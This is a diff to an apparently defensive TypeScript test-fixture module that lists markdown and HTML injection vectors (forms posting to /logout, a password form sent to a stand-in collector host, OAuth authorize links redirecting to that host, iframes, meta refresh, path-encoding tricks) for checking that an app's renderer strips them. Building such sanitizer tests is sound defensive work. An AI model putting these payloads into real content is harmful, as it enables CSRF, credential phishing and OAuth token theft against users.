@@ -353,3 +353,117 @@ export const XSS_VECTORS: readonly XssVector[] = BUILDERS.map(([name, live, buil
   const id = i + 1;
   return { id, name, live, html: build(payload(id), id, compactPayload(id)) };
 });
+
+// ── controls and links to the app's own routes, for text rendered in the app (not the sandbox) ──
+
+/**
+ * A piece of markdown (HTML inside it included) that, rendered in the app, would give a reader
+ * something to submit or a link that acts on the app: a form, a control, a `formaction`, or a URL
+ * on the app's origin that is not one of its pages (`/logout`, `/api/…`, `/oauth/…`, …).
+ */
+export interface ControlVector {
+  name: string;
+  markdown: string;
+}
+
+/** The paths on the app's origin that change something or hand out credentials. */
+export const STATE_CHANGING_PATHS = [
+  '/logout',
+  '/login',
+  '/api/',
+  '/oauth/',
+  '/consent/',
+  '/settings',
+  '/hooks/',
+  '/mcp',
+  '/.well-known/',
+];
+
+/** Every control vector, its app-origin URLs written against `origin` (e.g. http://127.0.0.1:8787). */
+export function controlVectors(origin: string): ControlVector[] {
+  const host = new URL(origin).host;
+  const authorize =
+    '/oauth/authorize?response_type=code&client_id=evil&redirect_uri=https%3A%2F%2Fcollector.example.net%2Fcb';
+  const list: [string, string][] = [
+    // Forms and controls, as raw HTML in the markdown
+    ['form posting to /logout', '<form action="/logout" method="post"><button>Sign out</button></form>'],
+    [
+      'form posting elsewhere',
+      '<form action="https://collector.example.net/"><input name="password" type="password"></form>',
+    ],
+    ['button with formaction', '<button formaction="/logout" formmethod="post">Continue</button>'],
+    ['submit input with formaction', '<input type="submit" formaction="/api/tokens" value="Go">'],
+    ['image input', '<input type="image" src="/logout" alt="go">'],
+    ['select and option', '<select name="workspace"><option>Acme</option></select>'],
+    ['textarea', '<textarea name="note">type here</textarea>'],
+    ['check box input', '<input type="checkbox" checked>'],
+    ['hidden input', '<input type="hidden" name="decision" value="allow">'],
+    [
+      'fieldset, legend and label',
+      '<fieldset><legend>Sign in</legend><label>Email <input></label></fieldset>',
+    ],
+    ['datalist and output', '<datalist id="d"><option value="a"></datalist><output>3</output>'],
+    ['obsolete isindex and keygen', '<isindex action="/logout"><keygen name="k">'],
+    ['button outside any form', '<button type="button">Allow</button>'],
+    ['form attribute on an element', '<img src="x" form="f" formaction="/logout">'],
+    ['contenteditable region', '<div contenteditable="true">edit me</div>'],
+    ['control inside a table cell', '| a |\n|---|\n| <input value="x"> |'],
+    ['control inside a list item', '- <button>Delete</button>'],
+    ['control inside a blockquote', '> <form action="/logout"><button>x</button></form>'],
+    [
+      'control inside details',
+      '<details open><summary>More</summary><form action="/logout"><button>x</button></form></details>',
+    ],
+    ['GFM task list', '- [x] done\n- [ ] to do'],
+    ['GFM task list, loose', '- [x] done\n\n- [ ] to do\n'],
+    // Links and sources on the app's own routes
+    ['markdown link to /logout', '[sign out](/logout)'],
+    ['markdown link to the JSON API', '[tokens](/api/tokens)'],
+    ['markdown link to authorize', `[connect](${authorize})`],
+    ['absolute link to authorize', `[connect](${origin}${authorize})`],
+    ['protocol-relative link to register', `<a href="//${host}/oauth/register">register</a>`],
+    ['link to the consent page', `[consent](${origin}/consent/abc)`],
+    ['link to a settings action', '[revoke](/settings/tokens/tok_1/revoke)'],
+    ['link to the event hooks', '[hook](/hooks/github/ws_1)'],
+    ['link to /mcp', `<${origin}/mcp>`],
+    ['GFM autolink literal to the API', `see ${origin}/api/me for details`],
+    ['reference-style link', '[x][r]\n\n[r]: /logout'],
+    ['percent-encoded path', '[x](/%6fauth/authorize)'],
+    ['percent-encoded slash after dot-dot', '[x](/documents/..%2Flogout)'],
+    ['dot segments', '[x](/documents/../logout)'],
+    ['dot segment at the start', '[x](/./api/me)'],
+    ['backslash path', '<a href="\\logout">x</a>'],
+    ['upper-case scheme and host', `<a href="HTTP://${host.toUpperCase()}/api/me">x</a>`],
+    ['upper-case path', '[x](/API/tokens)'],
+    ['path with tab and newline', '<a href="/lo&#9;gout">x</a> <a href="/api&#10;/me">y</a>'],
+    ['relative path without a slash', '<a href="../logout">x</a>'],
+    ['image from the API', '![x](/api/me)'],
+    ['image starting an authorization', `<img src="${authorize}">`],
+    ['image through a page path into the API', '<img src="/documents/x/../../api/me">'],
+    ['video poster on /logout', '<video poster="/logout"></video>'],
+    ['area in an image map', '<map name="m"><area href="/logout" shape="rect" coords="0,0,9,9"></map>'],
+    ['ping attribute', '<a href="https://example.org/" ping="/api/tokens">x</a>'],
+    ['srcset', '<img src="https://example.org/a.png" srcset="/logout 1x, /api/me 2x">'],
+    ['svg link', `<svg><a xlink:href="/logout"><text>x</text></a></svg>`],
+    ['math link', '<math><mtext><a href="/logout">x</a></mtext></math>'],
+    ['iframe', '<iframe src="/logout"></iframe>'],
+    ['object and embed', '<object data="/logout"></object><embed src="/api/me">'],
+    ['meta refresh', '<meta http-equiv="refresh" content="0;url=/logout">'],
+    ['base element', '<base href="/oauth/"><a href="authorize">x</a>'],
+    ['link element', '<link rel="prefetch" href="/logout">'],
+    ['style overlay', '<style>a{position:fixed;inset:0}</style><a href="https://example.org/">x</a>'],
+    ['inline style overlay', '<a style="position:fixed;inset:0" href="https://example.org/">x</a>'],
+    ['target and opener', '<a href="https://example.org/" target="_top">x</a>'],
+  ];
+  return list.map(([name, markdown]) => ({ name, markdown }));
+}
+
+/** Markdown that must still render after the rules above (links to pages, other sites, text). */
+export const HARMLESS_MARKDOWN = [
+  '# Heading',
+  'A [page of the app](/documents/doc_1) and [another site](https://example.org/path).',
+  '- [x] shipped',
+  '| a | b |\n|---|---|\n| 1 | 2 |',
+  '```\ncode\n```',
+  '![logo](https://example.org/logo.png)',
+].join('\n\n');
